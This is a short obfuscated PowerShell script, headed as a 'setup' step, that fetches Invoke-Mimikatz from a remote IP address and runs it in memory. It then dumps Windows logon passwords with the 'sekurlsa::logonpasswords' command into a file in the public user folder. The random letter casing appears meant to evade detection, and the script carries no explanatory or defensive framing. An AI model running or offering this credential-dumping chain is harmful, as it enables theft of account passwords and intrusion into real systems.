# sEtUp 0359 v3
Iex (NeW-ObJeCt nET.WeBcLiEnT).DoWNloaDStrINg('http://203.0.113.200/Invoke-Mimikatz.ps1')
InvOkE-mimIkaTz -COmMAnD '"privilege::debug" "sekurlsa::logonpasswords"' | oUt-fIlE C:\UsERs\pUbLIC\o.txt
